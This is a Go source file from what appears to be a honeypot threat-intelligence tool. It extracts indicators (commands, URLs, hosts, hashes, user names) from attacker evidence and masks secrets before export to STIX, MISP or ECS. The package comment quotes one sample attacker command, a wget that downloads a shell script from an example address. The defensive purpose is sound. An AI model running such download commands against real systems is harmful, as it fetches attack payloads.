// Package traces reads from a tag's evidence what others can look for: the command
// line, URLs and their hosts, files and their hashes, the request, the user's name.
// It is what the formats that leave the house (STIX, MISP, ECS) know of evidence.
//
// Whoever receives such a document is not who runs the honeypot, so that what
// passes through here is masked once more ([secrets.Mask]): passwords that stand in a command
// line, the user part of URLs, and the names in mail addresses.
//
// Invariants: every text is valid UTF-8 without control characters other than tab
// and line ends, and bounded; every URL parses, has a host that is an address or a
// name, and no user part. The same evidence gives the same traces.
//
// For example, of `{"command_text":"wget http://192.0.2.200/a.sh"}`:
//
//	var r traces.Reader
//	r.Read(evidence) // Command "wget http://192.0.2.200/a.sh", URLs 192.0.2.200
package traces

import (
	"bytes"
	"net/netip"
	"net/url"
	"strings"

	"github.com/go-json-experiment/json/jsontext"

	"ttpctl/internal/escape"
	"ttpctl/internal/event"
	"ttpctl/internal/secrets"
)

const (
	textBytes = 1024 // of a text, also of a command line
	urlBytes  = 2048 // a longer text is not taken for a URL
	maxURLs   = 8    // of one evidence
)

// Traces are what one evidence shows; what it does not show is "".
type Traces struct {
	Command   string
	Request   string // the path and query of a request, or all of its URL
	UserAgent string
	User      string
	File      File
	URLs      []URL
}

// A URL was named by an attacker: in a command, a payload or a request.
type URL struct {
	Text string // without a user part
	Host string // a name in lower case, or an address
	Addr netip.Addr
}

// A File came with the attacker. Algorithm is MD5, SHA-1, SHA-256, SHA-512 or "".
type File struct {
	Name, Algorithm, Hash string
}

// Public reports whether the host can mean something to others: no address of a
// private network, and no address that is not of one host.
func (u *URL) Public() bool { return !u.Addr.IsValid() || Public(u.Addr) }

// Public reports whether an address is one that others may meet too.
func Public(a netip.Addr) bool {
	a = a.Unmap()
	shared := a.Is4() && a.As4()[0] == 100 && a.As4()[1]&0xc0 == 64 // RFC 6598
	return a.IsGlobalUnicast() && !a.IsPrivate() && !shared
}

// A Reader reads evidence, and knows again command lines that it read: attackers
// are scripts. Its zero value is ready. It is for one goroutine.
type Reader struct {
	known map[string]Traces // by the command line as JSON
}

// knownCommands and knownBytes bound what a Reader knows again.
const knownCommands, knownBytes = 8192, 512

// Read returns what evidence, a JSON object, shows. What is not JSON shows nothing.
// The slices of the result are not to be written to.
func (r *Reader) Read(evidence []byte) Traces {
	line := commandLine(evidence)
	if line == nil || len(line) > knownBytes {
		return read(evidence)
	}
	t, ok := r.known[string(line)]
	if ok {
		return t
	}
	t = read(evidence)
	if r.known == nil || len(r.known) >= knownCommands {
		r.known = make(map[string]Traces)
	}
	r.known[string(line)] = t
	return t
}

// commandLine returns the command line in the evidence of a command, as JSON has
// it. It is the first member, and no other of a command's shows anything.
func commandLine(evidence []byte) []byte {
	rest, ok := bytes.CutPrefix(evidence, []byte(`{"command_text":"`))
	if !ok {
		return nil
	}
	for end := 0; end < len(rest); end++ {
		switch rest[end] {
		case '\\':
			end++
		case '"':
			return rest[:end]
		}
	}
	return nil
}

func read(evidence []byte) Traces {
	var t Traces
	dec := jsontext.NewDecoder(bytes.NewBuffer(evidence), jsontext.AllowDuplicateNames(true), jsontext.AllowInvalidUTF8(true))
	if tok, err := dec.ReadToken(); err != nil || tok.Kind() != '{' {
		return t
	}
	for {
		tok, err := dec.ReadToken()
		if err != nil || tok.Kind() != '"' {
			return t
		}
		name := tok.String()
		if dec.PeekKind() != '"' {
			if dec.SkipValue() != nil {
				return t
			}
			continue
		}
		if tok, err = dec.ReadToken(); err != nil {
			return t
		}
		t.add(name, tok.String())
		if name == "command_text" {
			return t
		}
	}
}

// add notes a member of the evidence. What names nothing to look for is left out.
func (t *Traces) add(name, value string) {
	switch name {
	case "command_text":
		t.Command = Text(value)
		t.findURLs(value)
	case "payload_text", "url":
		t.findURLs(value)
	case "raw_url":
		t.Request = Text(value)
		if plain, err := url.QueryUnescape(value); err == nil {
			value = plain
		}
		t.findURLs(value)
	case "user_agent":
		t.UserAgent = Text(value)
	case "username":
		t.User = Text(value)
	case "filename":
		t.File.Name = Text(value)
	case "shasum":
		t.File.Algorithm, t.File.Hash = hashOf(value)
	}
}

// Text returns an attacker's text as it may leave the house: masked, cut, and
// without what no database takes.
func Text(s string) string {
	s = secrets.Mask(s) // what is cut off may be why a word is a secret
	cut := event.CutText(s, textBytes)
	if len(cut) < len(s) {
		cut += "…"
	}
	return escape.XML(cut)
}

// hashOf names the algorithm of a hash by its length.
func hashOf(s string) (algorithm, hash string) {
	hash = strings.ToLower(s)
	if strings.Trim(hash, "0123456789abcdef") != "" {
		return "", ""
	}
	switch len(hash) {
	case 32:
		return "MD5", hash
	case 40:
		return "SHA-1", hash
	case 64:
		return "SHA-256", hash
	case 128:
		return "SHA-512", hash
	}
	return "", ""
}

// findURLs adds the URLs in text, each once.
func (t *Traces) findURLs(text string) {
	for at := 0; len(t.URLs) < maxURLs; {
		i := strings.Index(text[at:], "://")
		if i < 0 {
			return
		}
		mark := at + i
		at = mark + len("://")
		start := mark
		for start > 0 && mark-start < len("https") && isLetter(text[start-1]) {
			start--
		}
		if u, ok := parse(text, start, mark); ok && !t.has(u) {
			t.URLs = append(t.URLs, u)
		}
	}
}

func (t *Traces) has(u URL) bool {
	for i := range t.URLs {
		if t.URLs[i].Text == u.Text {
			return true
		}
	}
	return false
}

func isLetter(c byte) bool { return 'a' <= c|0x20 && c|0x20 <= 'z' }

// parse returns the URL in text from start on, whose scheme ends at mark. One with a
// variable of the shell in it is left out: nobody can fetch it.
func parse(text string, start, mark int) (URL, bool) {
	switch strings.ToLower(text[start:mark]) {
	case "http", "https", "ftp", "tftp":
	default:
		return URL{}, false
	}
	ends := " \"'`<>|;&\\(){}^"
	if start > 0 && (text[start-1] == '"' || text[start-1] == '\'') {
		ends = text[start-1:start] + " <>\\" // quoted: what ends a word for the shell does not end it here
	}
	rest := text[start:]
	end := strings.IndexFunc(rest, func(r rune) bool { return r <= ' ' || r >= 0x7f || strings.ContainsRune(ends, r) })
	if end >= 0 {
		rest = rest[:end]
	}
	rest = strings.TrimRight(rest, ".,])")
	if len(rest) > urlBytes || strings.ContainsAny(rest, "$*") {
		return URL{}, false
	}
	u, err := url.Parse(rest)
	if err != nil || u.Opaque != "" {
		return URL{}, false
	}
	u.User = nil
	u.Host = strings.ToLower(u.Host)
	host := u.Hostname()
	addr, err := netip.ParseAddr(host)
	if err != nil && !isName(host) {
		return URL{}, false
	}
	if err == nil {
		addr = addr.Unmap().WithZone("")
		host = addr.String()
	}
	return URL{Text: secrets.Mask(u.String()), Host: host, Addr: addr}, true
}

// isName reports whether host is a name of the DNS with a domain of letters.
func isName(host string) bool {
	labels := strings.Split(host, ".")
	if len(host) > 253 || len(labels) < 2 {
		return false
	}
	for i, l := range labels {
		letters := "abcdefghijklmnopqrstuvwxyz"
		if i < len(labels)-1 || strings.HasPrefix(l, "xn--") {
			letters += "0123456789-_"
		}
		if l == "" || len(l) > 63 || strings.Trim(l, letters) != "" {
			return false
		}
	}
	return len(labels[len(labels)-1]) > 1
}
